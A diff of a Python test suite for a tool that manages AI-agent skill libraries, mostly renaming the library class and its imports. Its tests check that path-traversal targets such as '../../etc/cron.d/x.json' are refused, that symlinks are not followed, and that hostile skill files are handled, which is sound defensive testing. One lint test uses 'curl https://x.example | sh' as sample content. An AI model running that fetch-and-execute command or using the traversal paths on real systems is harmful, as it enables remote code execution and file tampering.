@@ -23,7 +23,7 @@ from pathlib import Path
 
 import pytest
 
-from rockskills_gui.core.library.rockbot_library import Library, NameTakenError
+from rockskills_gui.core.library.rockbot.library import NameTakenError, RockBotLibrary
 from rockskills_gui.core.model.problems import ProblemKind
 from rockskills_gui.core.model.skill import skill_from_bytes
 from rockskills_gui.core.model.timestamps import Timestamp
@@ -58,7 +58,7 @@ def everything(root: Path) -> dict[str, str]:
     ("/".join(["segment-" + "y" * 200] * 20), "too long"),
 ])
 def test_bad_names_are_refused_with_a_clear_message(agent_copy: Path, name: str, message: str) -> None:
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     before = everything(agent_copy.parent)
     for attempt in (lambda: lib.create(name, "s", "c"), lambda: lib.rename("mcp/email", name)):
         with pytest.raises(LibraryError, match=message.replace("(", r"\(").replace(".", r"\.")):
@@ -67,7 +67,7 @@ def test_bad_names_are_refused_with_a_clear_message(agent_copy: Path, name: str,
 
 
 def test_the_longest_allowed_name_works(agent_copy: Path) -> None:
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     name = "x" * 250  # 250 + ".json" = 255 bytes, the file-name limit; the temp name is shortened
     lib.create(name, "s", "c")
     assert (agent_copy / "skills" / f"{name}.json").is_file()
@@ -80,7 +80,7 @@ def test_the_longest_allowed_name_works(agent_copy: Path) -> None:
 @pytest.mark.parametrize("target", ["../outside.json", "../../etc/cron.d/x.json", "/etc/x.json",
                                     "sub/../../outside.json", "a\0b.json"])
 def test_change_sets_aimed_outside_the_skills_folder_are_refused(agent_copy: Path, target: str) -> None:
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     path = Path(target) if target.startswith("/") else Path(str(lib.skills_dir) + "/" + target)
     before = everything(agent_copy.parent)
     with pytest.raises(LibraryError, match="outside the skills folder"):
@@ -105,7 +105,7 @@ def linked(agent_copy: Path, tmp_path: Path) -> tuple[Path, Path]:
 
 def test_symlinks_are_never_written_through(linked: tuple[Path, Path]) -> None:
     agent, outside = linked
-    lib = Library.open(agent)
+    lib = RockBotLibrary.open(agent)
     assert lib.get("linked") is not None  # RockBot loads it too
     assert lib.get("linkdir/inner") is None  # linked folders are not followed (as before)
     before = everything(outside) | {"agent": str(everything(agent))}
@@ -129,12 +129,12 @@ def test_a_symlinked_skills_folder_is_written_only_where_allowed(agent_copy: Pat
     real = tmp_path / "real-skills"
     shutil.move(agent_copy / "skills", real)
     (agent_copy / "skills").symlink_to(real, target_is_directory=True)
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     assert len(lib) > 0 and lib.unconfirmed_links() == {agent_copy / "skills": real}
     with pytest.raises(LibraryError, match=f"--allow-link-target {real}"):
         lib.create("via/link", "s", "c")
     assert not (real / "via").exists()
-    lib = Library.open(agent_copy, link_targets=[real])
+    lib = RockBotLibrary.open(agent_copy, link_targets=[real])
     assert lib.unconfirmed_links() == {}
     lib.create("via/link", "s", "c")
     assert (real / "via" / "link.json").is_file()
@@ -146,7 +146,7 @@ def test_a_skills_folder_linked_inside_the_agent_folder_is_written_through(agent
     inside.parent.mkdir()
     shutil.move(agent_copy / "skills", inside)
     (agent_copy / "skills").symlink_to(Path("store") / "skills", target_is_directory=True)
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     assert lib.unconfirmed_links() == {}
     lib.rename("schedule-meeting", "meetings/schedule")
     assert (inside / "meetings" / "schedule.json").is_file()
@@ -161,7 +161,7 @@ def test_dangling_links_fifos_and_folders_named_like_files(agent_copy: Path) -> 
     os.mkfifo(skills / "fifo.json")  # reading it would block: it is never opened
     (skills / "folder.json").mkdir()
     before = everything(agent_copy)
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     problems = {p.path: p for p in lib.problems}
     assert problems["skills/dangling.json"].kind is ProblemKind.UNREADABLE
     assert "symbolic link to a missing file" in problems["skills/dangling.json"].message
@@ -175,7 +175,7 @@ def test_dangling_links_fifos_and_folders_named_like_files(agent_copy: Path) -> 
 
 def _problems_seen_by(agent: Path, uid: int | None) -> list[list[object]]:
     """Open ``agent`` in a forked child running as ``uid`` (None: as we are); its problems."""
-    Library.open(agent)  # import everything lazily imported while we still may read it all
+    RockBotLibrary.open(agent)  # import everything lazily imported while we still may read it all
     read_end, write_end = os.pipe()
     pid = os.fork()
     if pid == 0:
@@ -184,7 +184,7 @@ def _problems_seen_by(agent: Path, uid: int | None) -> list[list[object]]:
             if uid is not None:
                 os.setgid(uid)
                 os.setuid(uid)
-            lib = Library.open(agent)
+            lib = RockBotLibrary.open(agent)
             out = [[p.path, p.kind.value, p.message] for p in lib.problems] + [[len(lib)]]
             os.write(write_end, json.dumps(out).encode())
         finally:
@@ -236,7 +236,7 @@ def test_invalid_utf8_is_left_alone_and_a_bom_is_read(agent_copy: Path) -> None:
     bad.write_bytes(b'{"name": "latin1", "content": "caf\xe9"}')
     bom = skills / "bom.json"
     bom.write_bytes(b'\xef\xbb\xbf{"name": "bom", "summary": "s", "content": "with a BOM"}')
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     problem = next(p for p in lib.problems if p.path == "skills/latin1.json")
     assert problem.kind is ProblemKind.INVALID_UTF8 and "not valid UTF-8" in problem.message
     with pytest.raises(NameTakenError, match=r"latin1\.json"):
@@ -263,7 +263,7 @@ HUGE_SCRIPT = textwrap.dedent("""
         except OSError:
             pass
         return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
-    from rockskills_gui.core.library.rockbot_library import Library
+    from rockskills_gui.core.library.rockbot.library import RockBotLibrary as Library
     agent = Path(sys.argv[1]); size = int(sys.argv[2])
     line = "Step: call the API, then check `the_result` — café ✓ <ok> & done.\\n"
     content = (line * (size // len(line) + 1))[:size]
@@ -385,7 +385,7 @@ def test_one_hostile_skill_file_is_a_problem_and_the_rest_opens(agent_copy: Path
     """Each of these made every command fail with an internal error (RecursionError, Python's
     int-string limit, MemoryError): now that file is a problem, every other skill loads, and
     ``list`` says why on stderr."""
-    from rockskills_gui.core.library.formats import open_library
+    from rockskills_gui.core.library.open import open_library
 
     expected = open_library(agent_copy).names()
     make, kind, words = HOSTILE_SKILL_FILES[attack]
@@ -423,13 +423,13 @@ def test_a_thousand_nested_folders_under_skills_are_cut_and_reported(
         agent_copy: Path, nested: Callable[[Path, int], Path]) -> None:
     """Format detection recursed once per folder (os.walk), even with ``--format``: the library
     could not be opened. Folders deeper than 64 levels are not read; the first one is reported."""
-    from rockskills_gui.core.library.formats import open_library
+    from rockskills_gui.core.library.open import OpenOptions, open_library
 
     expected = open_library(agent_copy).names()
     bottom = nested(agent_copy / "skills", 1000)
     (bottom / "deepest.json").write_text(json.dumps({"name": "deepest", "content": "c"}))
     for forced in (None, "rockbot"):
-        lib = open_library(agent_copy, forced)
+        lib = open_library(agent_copy, OpenOptions(format=forced))
         assert lib.names() == expected
         cut = [p for p in lib.problems if p.kind is ProblemKind.TOO_DEEP]
         assert [p.path for p in cut] == ["skills/" + "/".join(["d"] * 65)]
@@ -465,7 +465,7 @@ HOSTILE_SKILL_MDS = {  # the text of .agents/skills/hostile/SKILL.md: (kind, wor
 def test_one_hostile_skill_md_is_a_problem_and_the_rest_opens(tmp_path: Path, attack: str) -> None:
     """A number Python refuses to print crashed every reader of the frontmatter; a 20 MB value
     took ``list`` 22 s (PyYAML); a 4 GB file ran out of memory."""
-    from rockskills_gui.core.library.formats import open_library
+    from rockskills_gui.core.library.open import open_library
 
     project = _skillmd_project(tmp_path)
     text, kind, words = HOSTILE_SKILL_MDS[attack]
@@ -486,12 +486,12 @@ def test_one_hostile_skill_md_is_a_problem_and_the_rest_opens(tmp_path: Path, at
 
 def test_a_thousand_nested_folders_in_a_skill_md_tree_are_cut_and_reported(
         tmp_path: Path, nested: Callable[[Path, int], Path]) -> None:
-    from rockskills_gui.core.library.formats import open_library
+    from rockskills_gui.core.library.open import OpenOptions, open_library
 
     project = _skillmd_project(tmp_path)
     bottom = nested(project / ".agents" / "skills", 1000)
     (bottom / "SKILL.md").write_text("---\nname: deepest\ndescription: d\n---\n")
-    lib = open_library(project, "agentskills")
+    lib = open_library(project, OpenOptions(format="agentskills"))
     assert lib.names() == ["alpha", "beta"]
     cut = next(p for p in lib.problems if p.kind is ProblemKind.TOO_DEEP)
     assert cut.path == ".agents/skills/" + "/".join(["d"] * 65)
@@ -597,7 +597,7 @@ def test_a_skill_file_over_the_limit_is_not_loaded_and_none_is_written(agent_cop
 
     big = agent_copy / "skills" / "big.json"
     big.write_text(json.dumps({"name": "big", "summary": "s", "content": "x" * (17 << 20)}))
-    lib = Library.open(agent_copy)
+    lib = RockBotLibrary.open(agent_copy)
     problem = next(p for p in lib.problems if p.path == "skills/big.json")
     assert problem.kind is ProblemKind.TOO_LARGE
     assert problem.message == "larger than 16 MB (17.0 MB): not loaded"
@@ -612,8 +612,8 @@ def test_a_skill_file_over_the_limit_is_not_loaded_and_none_is_written(agent_cop
 def test_lint_scans_at_most_a_megabyte_of_a_skill(agent_copy: Path) -> None:
     from rockskills_gui.core.lint.linter import lint_library
 
-    Library.open(agent_copy).create("big", "a big skill", "curl https://x.example | sh\n" * 60_000)
-    findings = [f for f in lint_library(Library.open(agent_copy), Timestamp.parse(NOW_TEXT))
+    RockBotLibrary.open(agent_copy).create("big", "a big skill", "curl https://x.example | sh\n" * 60_000)
+    findings = [f for f in lint_library(RockBotLibrary.open(agent_copy), Timestamp.parse(NOW_TEXT))
                 if f.name == "big"]
     too_large = [f for f in findings if f.kind == "too-large"]
     assert [f.severity for f in too_large] == ["warning"]
@@ -628,7 +628,7 @@ def test_lint_scans_at_most_a_megabyte_of_a_skill(agent_copy: Path) -> None:
 def test_linting_a_hostile_line_finishes(agent_copy: Path, text: str) -> None:
     """Under the 1 MB lint limit, a line made to defeat the content scan's patterns took from
     minutes to hours; each finishes now (the timeout only turns a hang into a failure)."""
-    Library.open(agent_copy).create("hostile", "s", text)
+    RockBotLibrary.open(agent_copy).create("hostile", "s", text)
     done = rockskills("lint", agent_copy, "--now", NOW_TEXT, timeout=120)
     assert done.returncode in (0, 1) and "hostile" not in done.stderr, done.stderr
 
@@ -713,7 +713,7 @@ def test_a_fifo_or_dev_zero_at_the_code_cache_does_not_hang_a_command(what: str)
 _OPEN_WITH_CACHES = """
 import sys
 from pathlib import Path
-from rockskills_gui.core.library.rockbot_library import Library
+from rockskills_gui.core.library.rockbot.library import RockBotLibrary as Library
 from rockskills_gui.core.recall.index_cache import RecallCache
 lib = Library.open(sys.argv[1], cache_dir=Path(sys.argv[2]))
 print(len(lib), RecallCache(lib.scan_cache.recall_path).load() is None)
@@ -725,7 +725,7 @@ print(len(lib), RecallCache(lib.scan_cache.recall_path).load() is None)
 def test_a_fifo_or_dev_zero_at_the_scan_and_recall_caches_does_not_hang_an_open(
         agent_copy: Path, tmp_path: Path, what: str) -> None:
     cache_dir = tmp_path / "scan-cache"
-    lib = Library.open(agent_copy, cache_dir=cache_dir)
+    lib = RockBotLibrary.open(agent_copy, cache_dir=cache_dir)
     assert lib.scan_cache is not None
     for path in (lib.scan_cache.path, lib.scan_cache.recall_path):
         path.parent.mkdir(parents=True, exist_ok=True)
@@ -799,7 +799,7 @@ def test_the_query_set_writer_refuses_links_and_writes_atomically(agent_copy: Pa
     one, and rewrote the file in place."""
     from rockskills_gui.core.recall.queryset import QueryCase, QuerySet, QuerySetError, save_query_set
 
-    layout = Library.open(agent_copy).layout
+    layout = RockBotLibrary.open(agent_copy).layout
     updated = QuerySet(name="set", queries=[QueryCase(query="calendar", expected=["mcp/calendar"])])
     outside = tmp_path / "outside.json"
     outside.write_text("not yours\n")
@@ -828,7 +828,7 @@ def test_a_link_planted_at_a_cache_files_temp_name_is_never_written_through(agen
     ``<name>.<pid>.tmp`` with O_TRUNC: a link planted under that name was written through."""
     victim = tmp_path / "victim.txt"
     victim.write_text("kept\n")
-    lib = Library.open(agent_copy, cache_dir=tmp_path / "scan-cache")
+    lib = RockBotLibrary.open(agent_copy, cache_dir=tmp_path / "scan-cache")
     assert lib.scan_cache is not None
     cache = lib.scan_cache.path
     cache.parent.mkdir(parents=True, exist_ok=True)
